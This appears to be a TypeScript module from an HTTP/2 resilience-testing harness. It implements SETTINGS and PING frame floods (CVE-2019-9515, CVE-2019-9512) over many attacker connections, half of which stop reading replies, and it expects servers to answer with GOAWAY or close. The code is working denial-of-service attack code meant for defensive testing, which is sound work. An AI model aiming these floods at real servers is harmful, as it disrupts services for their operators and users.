import { frame, PING, SETTINGS } from '../../swarm/http2-frames.js';
import { type Attack, type AttackTarget, OutcomeCounter, type Outcomes, PATIENCE_MS, repeat } from '../attack.js';
import { AttackerConnection } from '../attacker-connection.js';

const FRAMES_PER_CONNECTION = 200_000;
const FRAMES_PER_WRITE = 500;

/** SETTINGS_INITIAL_WINDOW_SIZE, which is worked for on each open stream. */
const SETTING = Buffer.from([0, 4, 0, 0, 0xff, 0xff]);

async function flood(target: AttackTarget, attempts: number, frames: Buffer): Promise<Outcomes> {
  const counter = new OutcomeCounter();
  const connections = Math.max(2, Math.ceil(attempts / FRAMES_PER_CONNECTION));
  await repeat(connections, 2, async (index) => {
    const connection = await AttackerConnection.open(target);
    // Every other one does not read what it is answered.
    if (index % 2 === 1) connection.socket.pause();
    const share = Math.ceil(attempts / connections);
    for (let sent = 0; sent < share && !connection.isClosed && connection.goaway === undefined;) {
      await connection.send(frames);
      sent += FRAMES_PER_WRITE;
      await new Promise((resolve) => setImmediate(resolve));
    }
    connection.socket.resume();
    counter.add(await connection.ending(PATIENCE_MS));
    connection.destroy();
  });
  return counter.outcomes;
}

function many(one: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: FRAMES_PER_WRITE }, () => one));
}

const CLOSED = /^GOAWAY (ENHANCE_YOUR_CALM|INTERNAL_ERROR|PROTOCOL_ERROR)$|^closed$/;

/** An attempt is a frame. */
export const settingsFlood: Attack = {
  name: 'settings-flood',
  description: 'SETTINGS frames without end, each of which must be answered (CVE-2019-9515)',
  quick: 40_000,
  full: 1_000_000,
  expected: CLOSED,
  run: (target, attempts) => flood(target, attempts, many(frame(SETTINGS, 0, 0, SETTING))),
};

/** An attempt is a frame. */
export const pingFlood: Attack = {
  name: 'ping-flood',
  description: 'PING frames without end, each of which must be answered (CVE-2019-9512)',
  quick: 40_000,
  full: 1_000_000,
  expected: CLOSED,
  run: (target, attempts) => flood(target, attempts, many(frame(PING, 0, 0, Buffer.alloc(8)))),
};
